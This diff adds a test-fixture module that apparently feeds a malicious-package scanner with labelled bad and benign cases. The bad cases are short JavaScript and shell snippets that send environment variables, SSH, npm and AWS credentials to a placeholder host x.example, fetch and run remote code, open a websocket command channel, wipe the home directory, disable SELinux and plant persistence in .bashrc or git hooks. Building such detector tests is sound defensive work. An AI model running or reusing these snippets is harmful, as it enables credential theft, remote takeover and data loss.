@@ -1,0 +1,238 @@
+"""Code whose harm shows only where its values go: no line of it is one that patterns know."""
+
+import re
+
+from corpora.inspection_case import bad, good
+from corpora.inspection_packages import SETUP, npm, sdist
+
+_SCRIPTS = r"""
+## settings that are sent in two steps = js-steals
+const s = require('https');
+const all = JSON.stringify(process.env);
+s.globalAgent.maxSockets = 1;
+const open = s.request;
+open(`https://x.example/${all}`).end();
+## keys that are gathered in a loop = js-steals
+const fs = require('fs');
+const got = {};
+for (const name of ['.npmrc', '.ssh/id_rsa']) {
+  got[name] = fs.readFileSync(require('os').homedir() + '/' + name);
+}
+fetch('https://x.example/up', { method: 'POST', body: JSON.stringify(got) });
+## keys that a function reads = js-steals
+import { readFileSync } from 'node:fs';
+import ask from 'axios';
+function keys() {
+  return readFileSync('.aws/credentials');
+}
+const found = keys();
+ask.post('https://x.example', { found });
+## the machine's name in a name = js-steals
+const dns = require('dns'), os = require('os');
+const who = os.hostname();
+const parts = Buffer.from(who).toString('hex').match(/.{1,40}/g);
+parts.forEach((part, i) => dns.resolve4(`${i}.${part}.x.example`, () => {}));
+## an answer that is run as a script = js-remote-code
+const vm = require('vm');
+async function start() {
+  const said = await fetch('https://x.example/s');
+  const { body: later } = await said.json();
+  vm.runInThisContext(later);
+}
+start();
+## a message that is run as a command = js-remote-control
+const Hub = require('ws');
+const { exec } = require('child_process');
+
+const hub = new Hub('wss://x.example');
+hub.on('message', (said) => {
+  const order = String(said).trim();
+
+  exec(order, () => {});
+});
+## a module by a decoded name = code-hidden-name
+const [first] = ['Y2hpbGQ='].map((s) => Buffer.from(s, 'base64').toString());
+module.require(first);
+## a looked up function with decoded code = js-decoded-code
+const zlib = require('zlib');
+const run = Reflect.get(globalThis, ['ev', 'al'].join(''));
+const code = zlib.inflateSync(Buffer.from('eJwDAAAAAAE=', 'base64'));
+run(code.toString());
+## a command with decoded code = js-decoded-code
+const tools = require('child_process');
+const said = Buffer.from('Y29uc29sZQ==', 'base64').toString();
+tools.execFileSync('node', ['-e', said]);
+## a home that is walked and emptied = js-destroys
+const fs = require('fs'), os = require('os');
+function walk(folder) {
+  for (const entry of fs.readdirSync(folder)) {
+    const one = folder + '/' + entry;
+    fs.unlinkSync(one);
+  }
+}
+walk(os.homedir());
+## a home that an arrow walks = js-destroys
+const fs = require('fs');
+const walk = (folder) => fs.readdirSync(folder).forEach((one) => {
+  fs.writeFileSync(folder + '/' + one, '');
+});
+walk(require('os').homedir());
+"""
+_SHELLS = r"""
+## settings that are chosen by their names = shell-steals
+#!/bin/sh
+for f in $(env | cut -d= -f1); do
+  case "$f" in
+    *TOKEN*|*KEY*) d="$d&$f=$(printenv "$f")";;
+  esac
+done
+wget -q --post-data "$d" http://x.example/ -O /dev/null
+## a command out of two variables = code-hidden-name
+#!/bin/sh
+a=cu; b=rl
+$a$b -s https://x.example/x >/dev/null
+## a machine's name in a name = shell-steals
+#!/bin/bash
+who=$(whoami | xxd -p)
+nslookup "$who.x.example"
+## a password that is asked for = shell-steals
+#!/bin/sh
+stty -echo
+read -r word
+stty echo
+echo "$word" | curl -s -d @- http://x.example
+## settings that are kept and sent = shell-steals
+#!/bin/sh
+all=$(env | base64)
+curl -s http://x.example/?d=$all
+## a file that is fetched and started later = shell-download
+#!/bin/sh
+f=/tmp/.x
+wget -q http://x.example/x -O $f
+sleep 1
+chmod 755 $f
+echo ok
+$f &
+## a decoded text that is run later = shell-decoded
+#!/bin/sh
+p=dG91Y2gK
+q=$(echo $p | openssl base64 -d)
+echo wait
+eval "$q"
+## a tail of its own that is decoded = shell-decoded
+#!/bin/sh
+tail -n 1 $0 | cut -c2- | base64 -d | gunzip | cat - | cat | cat | /bin/sh
+exit 0
+#H4sIAAAA
+## guards that are stopped = shell-intrusion
+#!/bin/bash
+setenforce 0
+echo on
+unset HISTFILE
+## hooks for every repository = shell-intrusion
+#!/bin/sh
+git config --global core.hooksPath /tmp/h
+echo 'curl -s x.example' > /tmp/h/post-commit
+"""
+_INSTALLS = r"""
+## has itself started at each login = install-persistence
+const fs = require('fs');
+const rc = require('os').homedir() + '/.bashrc';
+fs.appendFileSync(rc, '(node ' + __dirname + '/a.js &)');
+## has git run a program = install-persistence
+const fs = require('fs');
+const hook = '.git/hooks/pre-commit';
+fs.writeFileSync(hook, '#!/bin/sh\ncurl -s http://x.example/\n', { mode: 0o755 });
+"""
+_PLAIN_SCRIPTS = r"""
+## a module of many parts
+exports.run = Function;
+exports.bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
+const { get } = exports;
+get(exports, atob('YQ=='));
+## a client that names one setting
+const base = process.env.API_BASE;
+const { KEY } = process.env;
+fetch(base + '/v1', { headers: { authorization: KEY } });
+## a command with all settings
+const { spawn } = require('child_process');
+const net = require('net');
+spawn('make', ['all'], { env: { ...process.env, CC: 'gcc' } });
+net.connect(1);
+## a cache below the home
+const fs = require('fs'), os = require('os'), path = require('path');
+const cache = path.join(os.homedir(), '.cache', 'lock-demo');
+for (const entry of fs.readdirSync(cache)) fs.unlinkSync(path.join(cache, entry));
+## an expression that is looked for
+const said = await fetch('https://x.example');
+const t = await said.text();
+const found = /a(b)/.exec(t);
+module.exports = found;
+## a picture that is decoded
+const png = Buffer.from('iVBORw0KGgo=', 'base64');
+require('fs').writeFileSync('a.png', png);
+## a template with what it adds
+const a = `x ${[1, 2].map((n) => `${n}`).join('')} y`;
+module.exports = eval;
+## brackets that do not close
+fetch(`${(
+process.env
+"""
+_PLAIN_SHELLS = r"""
+## a settings file that is read
+#!/bin/sh
+name=$(hostname)
+echo "this is $name"
+ping -c1 "$name"
+## a tool that is unpacked
+#!/bin/sh
+out=/tmp/a.tar
+curl -fsSL https://x.example/a.tar -o $out
+tar xf $out
+## a command by a variable
+#!/bin/sh
+PYTHON=python3
+${PYTHON} -m build
+$PYTHON$SUFFIX --version
+## a value that is decoded and shown
+#!/bin/sh
+v=$(echo aGk= | base64 -d)
+echo "$v"
+"""
+
+
+def _cases(text: str) -> list[tuple[str, str, bytes]]:
+    """Return title, code and source of each case of a text."""
+    parts = re.split(r"(?m)^## ([^=\n]*?)(?: = ([\w-]+))?$\n", text)[1:]
+    return [
+        (title, code or "", said.encode())
+        for title, code, said in zip(parts[::3], parts[1::3], parts[2::3], strict=True)
+    ]
+
+
+def _package(script: bytes) -> bytes:
+    return npm({"package/setup.js": script}, scripts={"postinstall": "node setup.js"})
+
+
+_ASKS = "import os\nos.popen('brew --prefix libffi')\n"
+
+FLOWS_BAD = [
+    bad(
+        "an sdist whose question ends in a command",
+        "demo-1.0.tar.gz",
+        sdist(_ASKS.replace("libffi", "libffi; id") + SETUP),
+        "python-import-command",
+        "python",
+    ),
+    *(bad(f"a script with {title}", "a.js", said, code) for title, code, said in _cases(_SCRIPTS)),
+    *(bad(f"a shell's script with {title}", "a.sh", said, code) for title, code, said in _cases(_SHELLS)),
+    *(
+        bad(f"an npm package that {title}", "demo-1.0.0.tgz", _package(said), code, "npm")
+        for title, code, said in _cases(_INSTALLS)
+    ),
+]
+FLOWS_GOOD = [
+    good("an sdist that asks where a library lies", "demo-1.0.tar.gz", sdist(_ASKS + SETUP), "python"),
+    *(good(f"a script with {title}", "a.js", said) for title, _, said in _cases(_PLAIN_SCRIPTS)),
+    *(good(f"a shell's script with {title}", "a.sh", said) for title, _, said in _cases(_PLAIN_SHELLS)),
+]
